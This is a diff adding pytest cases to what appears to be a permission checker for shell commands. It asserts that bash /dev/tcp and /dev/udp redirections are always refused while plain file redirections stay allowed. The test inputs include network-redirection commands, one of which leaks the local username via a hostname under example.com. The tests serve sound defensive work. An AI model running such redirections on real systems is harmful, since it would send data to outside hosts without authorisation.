@@ -215,3 +215,25 @@ def test_awk_choosing_its_own_input_files(
 def test_git_subcommands_that_write(command: str, expected: str, ws: Path, home: Path) -> None:
     decision, why = judge(command, ws, home)
     assert decision == expected, why
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # a read from bash's /dev/tcp connects too, and the host name itself is sent out
+        "cat < /dev/tcp/example.com/80",
+        'head -c 1 < "/dev/tcp/$(whoami).example.com/80"',
+        ": < /dev/tcp/example.com/80",
+        "true < /dev/udp/x.example.com/53",
+        "x=/dev/tcp/example.com/80; cat < $x",
+        "cat < /dev/$x/example.com/80",
+    ],
+)
+def test_network_redirections_are_never_allowed(command: str, ws: Path, home: Path) -> None:
+    decision, why = judge(command, ws, home)
+    assert decision == "unmatched" and "network" in why, why
+
+
+@pytest.mark.parametrize("command", ['cat < "$f"', "cat < $d/x", "cat < input.txt"])
+def test_ordinary_input_redirections_stay_allowed(command: str, ws: Path, home: Path) -> None:
+    assert judge(command, ws, home)[0] == "allow"
